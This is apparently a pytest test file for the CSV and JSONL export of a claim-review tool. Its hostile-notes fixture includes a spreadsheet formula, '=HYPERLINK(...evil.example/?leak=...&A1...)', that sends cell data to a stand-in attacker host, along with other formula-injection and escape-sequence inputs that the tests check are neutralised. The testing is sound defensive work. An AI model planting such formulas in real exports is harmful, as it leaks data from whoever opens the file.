"""Export: columns, round trip through the csv module, hostile notes, final decisions, filters."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import datetime, timedelta

import orjson
import pytest

from claimdesk.extract.links import link_corpus
from claimdesk.store.database import Database
from claimdesk.store.export import COLUMNS, FINAL_COLUMNS, neutralise, read_csv, unneutralise, write_export
from claimdesk.store.filters import FILTERS
from store_fixtures import store_corpus_parts, store_db, store_db_template  # noqa: F401

EXPECTED_COLUMNS = (
    "claim_id,article_id,source,outlet,title,start,end,text,kind,attribution,suggested_status,"
    "suggestion_reason,supporting_claims,conflicting_claims,reviewer,status,note,reviewed_at"
).split(",")

HOSTILE = [
    'she said "yes", then "no"',
    "commas, commas, and more, commas",
    "line one\nline two\n\nline four",
    '=HYPERLINK("http://evil.example/?leak="&A1, "click me")',
    "+1 (555) 0100",
    "-2 votes",
    "@SUM(A1:A9)",
    "'=already quoted",
    "x" * 100_000,
    "مرحبا \u200fRTL mark and \u202eoverride",
    "escape \x1b[2J\x1b]0;title\x07sequences",
]


def export_text(db: Database, **kw) -> str:
    out = io.StringIO(newline="")
    write_export(db, out, **kw)
    return out.getvalue()


def export_csv(db: Database, **kw) -> str:
    out = io.StringIO(newline="")
    write_export(db, out, fmt="csv", **kw)
    return out.getvalue()


def test_columns_exactly_in_order(store_db):
    text = export_csv(store_db)
    header = next(csv.reader(io.StringIO(text)))
    assert header == EXPECTED_COLUMNS == list(COLUMNS)
    assert list(FINAL_COLUMNS[: len(COLUMNS)]) == EXPECTED_COLUMNS


def test_unjudged_claims_once_judged_once_per_reviewer(store_db):
    corpus = store_db.corpus()
    a, b = corpus.claims[:2]
    store_db.tag(a.id, "disputed", "ana", note="why")
    store_db.tag(a.id, "corroborated", "ben")
    store_db.tag(b.id, "unsourced", "ben")
    store_db.untag(b.id, "ben")  # cleared, no note: counts as not judged
    rows = read_csv(io.StringIO(export_csv(store_db)))
    assert [r["claim_id"] for r in rows] == [a.id, a.id] + [c.id for c in corpus.claims[1:]]
    assert [(r["reviewer"], r["status"], r["note"]) for r in rows[:2]] == [
        ("ana", "disputed", "why"),
        ("ben", "corroborated", ""),
    ]
    assert rows[0]["reviewed_at"] == store_db.judgement(a.id, "ana").updated
    assert all(r["reviewer"] == r["status"] == r["note"] == r["reviewed_at"] == "" for r in rows[2:])
    article = corpus.article(a.article_id)
    first = rows[0]
    assert (first["source"], first["outlet"], first["title"], first["text"]) == (
        article.source,
        article.outlet,
        article.title,
        a.text,
    )
    assert (int(first["start"]), int(first["end"]), first["kind"]) == (a.start, a.end, a.kind)
    sug = corpus.linkage.suggestions[a.id]
    assert (first["suggested_status"], first["suggestion_reason"]) == (sug.status, sug.reason)
    only_ana = read_csv(io.StringIO(export_csv(store_db, reviewer="ana")))
    assert [(r["claim_id"], r["reviewer"]) for r in only_ana if r["reviewer"]] == [(a.id, "ana")]


def test_link_columns_are_semicolon_lists_both_directions(store_db):
    corpus = store_db.corpus()
    assert corpus.linkage.links, "the linker found no link in the sample corpus"
    link = corpus.linkage.links[0]
    rows = {r["claim_id"]: r for r in read_csv(io.StringIO(export_csv(store_db)))}
    column = "supporting_claims" if link.relation == "supports" else "conflicting_claims"
    assert link.other_id in rows[link.claim_id][column].split(";")
    assert link.claim_id in rows[link.other_id][column].split(";")


def test_round_trip_with_hostile_notes(store_db):
    claims = store_db.corpus().claims
    written = {}
    for claim, note in zip(claims, HOSTILE):
        written[claim.id] = store_db.tag(claim.id, "disputed", "ana", note=note)
    text = export_csv(store_db)
    raw_rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in raw_rows:  # nothing a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "\x1b" not in text and "\u202e" not in text and "\u200f" not in text
    back = {(r["claim_id"], r["reviewer"]): r for r in read_csv(io.StringIO(text, newline=""))}
    for claim_id, j in written.items():
        row = back[(claim_id, "ana")]
        assert (row["status"], row["note"], row["reviewed_at"]) == (j.status, j.note, j.updated)
    notes = {j.note for j in written.values()}
    assert "line one\nline two\n\nline four" in notes
    assert '=HYPERLINK("http://evil.example/?leak="&A1, "click me")' in notes
    assert "x" * 100_000 in notes
    assert "escape sequences" in notes
    assert "مرحبا RTL mark and override" in notes
    neutralised = next(r for r in raw_rows if r["note"].startswith("'=HYPERLINK"))
    assert neutralised["note"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
    assert next(r for r in raw_rows if "already quoted" in r["note"])["note"] == "''=already quoted"


def test_neutralise_is_reversible():
    for cell in ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", "", "'"]:
        assert unneutralise(neutralise(cell)) == cell
        assert not neutralise(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_bom_and_crlf(store_db):
    out = io.StringIO(newline="")
    write_export(store_db, out, bom=True)
    text = out.getvalue()
    assert text.startswith("\ufeffclaim_id,")
    assert text.splitlines(keepends=True)[0].endswith("\r\n")
    assert read_csv(io.StringIO(text))[0]["claim_id"] == store_db.corpus().claims[0].id


def test_jsonl_same_keys_raw_values(store_db):
    claim = store_db.corpus().claims[0]
    store_db.tag(claim.id, "corroborated", "ana", note="=1+1\nsecond line")
    out = io.StringIO()
    n = write_export(store_db, out, fmt="jsonl")
    lines = out.getvalue().splitlines()
    assert n == len(lines) == len(store_db.corpus().claims)
    first = orjson.loads(lines[0])
    assert list(first) == EXPECTED_COLUMNS + ["url", "published", "published_raw", "authors"]  # + page metadata
    assert isinstance(first["authors"], list) and isinstance(first["published"], str)
    assert first["note"] == "=1+1\nsecond line"  # data, not spreadsheet input: unchanged
    assert isinstance(first["supporting_claims"], list) and isinstance(first["start"], int)


def test_final_adjudicated_unanimous_majority_tie(store_db):
    c = [x.id for x in store_db.corpus().claims[:5]]
    store_db.tag(c[0], "disputed", "ana")
    store_db.tag(c[0], "corroborated", "ben")
    store_db.tag(c[0], "unsourced", "adjudicator", note="settled")
    for r in ("ana", "ben", "cy"):
        store_db.tag(c[1], "corroborated", r)
    store_db.tag(c[2], "disputed", "ana")
    store_db.tag(c[2], "disputed", "ben")
    store_db.tag(c[2], "corroborated", "cy")
    store_db.tag(c[3], "disputed", "ana")
    store_db.tag(c[3], "corroborated", "ben")
    rows = {r["claim_id"]: r for r in read_csv(io.StringIO(export_csv(store_db, final=True)))}
    assert len(rows) == len(store_db.corpus().claims)  # one row per claim
    got = {cid: (rows[cid]["status"], rows[cid]["decision"], rows[cid]["votes"], rows[cid]["voters"],
                 rows[cid]["reviewer"]) for cid in c}
    assert got == {
        c[0]: ("unsourced", "adjudicated", "1", "1", "adjudicator"),
        c[1]: ("corroborated", "unanimous", "3", "3", "ana;ben;cy"),
        c[2]: ("disputed", "majority", "2", "3", "ana;ben"),
        c[3]: ("", "tie", "1", "2", ""),
        c[4]: ("", "", "", "", ""),
    }
    assert rows[c[0]]["note"] == "settled"
    chair = {r["claim_id"]: r for r in read_csv(io.StringIO(export_csv(store_db, final=True, adjudicators=("cy",))))}
    assert (chair[c[2]]["status"], chair[c[2]]["decision"]) == ("corroborated", "adjudicated")


def test_only_filters(store_db):
    corpus = store_db.corpus()
    claims = corpus.claims
    store_db.tag(claims[0].id, "disputed", "ana")
    store_db.tag(claims[0].id, "corroborated", "ben")
    store_db.tag(claims[1].id, "corroborated", "ana")

    def ids(only, **kw):
        return [r["claim_id"] for r in read_csv(io.StringIO(export_csv(store_db, only=only, **kw)))]

    assert ids("disagreements") == [claims[0].id, claims[0].id]
    assert ids("corroborated") == [claims[0].id, claims[0].id, claims[1].id]
    assert ids("corroborated", reviewer="ana") == [claims[1].id]
    assert ids("unreviewed") == [c.id for c in claims[2:]]
    assert ids("unreviewed", reviewer="ben") == [c.id for c in claims[1:]]
    for kind in ("statistic", "quote", "event", "statement"):
        assert set(ids(f"kind-{kind}")) == {c.id for c in claims if c.kind == kind}
    for status in ("corroborated", "disputed", "unsourced"):
        assert set(ids(f"suggested-{status}")) == {
            c.id for c in claims if corpus.linkage.suggestions.get(c.id) and corpus.linkage.suggestions[c.id].status == status
        }
    assert set(ids(["kind-statistic", "unreviewed"])) == {c.id for c in claims[2:] if c.kind == "statistic"}
    with pytest.raises(ValueError, match="unknown filter"):
        export_csv(store_db, only="bogus")
    assert "disagreements" in FILTERS


def test_orphaned_judgements_are_exported_at_the_end(store_db, store_corpus_parts):
    from store_fixtures import article_from_text, claims_of

    articles, _ = store_corpus_parts
    victim = store_db.corpus().claims_of(articles[0].id)[0]
    store_db.tag(victim.id, "disputed", "ana", note="gone later")
    edited = article_from_text(articles[0].source, articles[0].text.replace(victim.text, ""))
    store_db.ingest([edited], {edited.id: claims_of(edited)}, link_corpus)
    rows = read_csv(io.StringIO(export_csv(store_db)))
    assert (rows[-1]["claim_id"], rows[-1]["reviewer"], rows[-1]["note"], rows[-1]["text"]) == (
        victim.id,
        "ana",
        "gone later",
        "",
    )


def test_bad_arguments_write_nothing(store_db):
    for kw in ({"only": "bogus"}, {"final": True, "reviewer": "ana"}, {"fmt": "xlsx"}):
        out = io.StringIO()
        with pytest.raises(ValueError):
            write_export(store_db, out, **kw)
        assert out.getvalue() == ""


def test_final_csv_cells_stay_text_or_plain_integers(store_db):
    """No cell a spreadsheet would turn into a date: votes and voters are bare integers (was
    "2/3", which LibreOffice and Excel read as 2 March); reviewed_at is ISO 8601 UTC."""
    c = [x.id for x in store_db.corpus().claims[:2]]
    for r in ("ana", "ben", "cy"):
        store_db.tag(c[0], "disputed" if r != "cy" else "corroborated", r)
    text = export_csv(store_db, final=True)
    header, *lines = list(csv.reader(io.StringIO(text)))
    assert header[-3:] == ["decision", "votes", "voters"]
    row = dict(zip(header, lines[0]))
    assert (row["votes"], row["voters"]) == ("2", "3")
    for line in lines:
        cells = dict(zip(header, line))
        assert "/" not in cells["votes"] + cells["voters"]
        assert cells["votes"] == "" or cells["votes"].isdigit()
    stamp = datetime.fromisoformat(row["reviewed_at"])
    assert stamp.utcoffset() == timedelta(0) and "T" in row["reviewed_at"]
    jl = [orjson.loads(x) for x in export_text(store_db, fmt="jsonl", final=True).splitlines()]
    assert (jl[0]["votes"], jl[0]["voters"]) == (2, 3) and jl[1]["votes"] is None


def test_file_export_is_private_and_never_inside_a_database(store_db, tmp_path):
    from claimdesk.store.export import ExportTargetError, write_file_atomic

    def produce(out):
        return write_export(store_db, out)

    old = os.umask(0)
    try:
        target = tmp_path / "out.csv"
        write_file_atomic(target, produce)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        write_file_atomic(target, produce, mode=0o640)
        assert stat.S_IMODE(target.stat().st_mode) == 0o640
    finally:
        os.umask(old)
    corpus = store_db.path / "corpus.json"
    before = corpus.read_bytes()
    for inside in (corpus, store_db.path / "judgements" / "x.csv", store_db.path / "x.csv"):
        with pytest.raises(ExportTargetError, match="inside the database folder"):
            write_file_atomic(inside, produce)
    assert corpus.read_bytes() == before
    assert not (store_db.path / "x.csv").exists() and not list(store_db.path.glob(".*.tmp"))
    # through a link to the database folder, and into a database that is not the one exported
    link = tmp_path / "link"
    link.symlink_to(store_db.path, target_is_directory=True)
    with pytest.raises(ExportTargetError, match="inside the database folder"):
        write_file_atomic(link / "x.csv", produce)
    with pytest.raises(ExportTargetError, match="does not exist"):
        write_file_atomic(tmp_path / "missing" / "x.csv", produce)
